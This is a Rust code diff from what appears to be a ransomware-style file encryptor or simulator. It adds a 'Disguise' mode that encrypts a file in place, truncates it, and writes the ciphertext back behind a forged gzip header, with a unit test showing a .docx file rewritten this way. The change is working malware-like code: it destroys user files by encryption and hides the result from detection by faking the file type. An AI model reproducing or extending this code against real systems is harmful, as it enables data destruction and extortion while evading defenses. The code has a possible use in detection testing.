@@ -21,6 +21,8 @@ use crate::uring::{Ring, RingFile};
 const CHUNK: usize = 1 << 20;
 const MIB: u64 = 1 << 20;
 const FOOTER_LEN: usize = 512;
+/// A gzip member's header (deflate, no name, Unix): all that tells gzip.
+const GZIP_HEADER: &[u8] = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03";
 
 /// A family's per-file work with everything drawn once per run (key, random
 /// extension) already drawn. Shared by reference between worker threads.
@@ -178,12 +180,14 @@ impl FileJob {
                 }
                 Ok((file, len))
             }
-            Method::Truncate => {
+            Method::Truncate | Method::Disguise => {
                 let mut data = read_all(path)?;
                 encrypt_buf(cipher, &ranges(self.plan.span, data.len() as u64)?, 0, &mut data);
+                let header: &[u8] = if matches!(self.plan.method, Method::Disguise) { GZIP_HEADER } else { &[] };
                 let mut file = open_opts().write(true).truncate(true).open(path)?;
+                file.write_all(header)?;
                 file.write_all(&data)?;
-                Ok((file, data.len() as u64))
+                Ok((file, (header.len() + data.len()) as u64))
             }
             Method::Base64 => {
                 let mut data = read_all(path)?;
@@ -393,6 +397,23 @@ mod tests {
         let header = original.iter().zip(&new).take_while(|(a, b)| a == b).count();
         assert!((16..=256).contains(&header), "{header}");
         assert!(original[header..].iter().zip(&new[header..]).all(|(a, b)| a ^ key == *b));
+    }
+
+    #[test]
+    fn a_disguise_is_a_gzip_header_and_the_ciphertext_of_everything() {
+        let plan = Plan { method: Method::Disguise, cipher: CipherKind::XorByte, ..BASE };
+        let tmp = tempfile::tempdir().unwrap();
+        let file = tmp.path().join("a.docx");
+        let original: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
+        fs::write(&file, &original).unwrap();
+        FileJob::new(plan).unwrap().apply(&file).unwrap();
+        let new = fs::read(&file).unwrap();
+        assert_eq!(new.len(), GZIP_HEADER.len() + original.len());
+        assert_eq!(&new[..GZIP_HEADER.len()], GZIP_HEADER);
+        let body = &new[GZIP_HEADER.len()..];
+        let key = body[0] ^ original[0];
+        assert_ne!(key, 0);
+        assert!(original.iter().zip(body).all(|(a, b)| a ^ key == *b));
     }
 
     #[test]
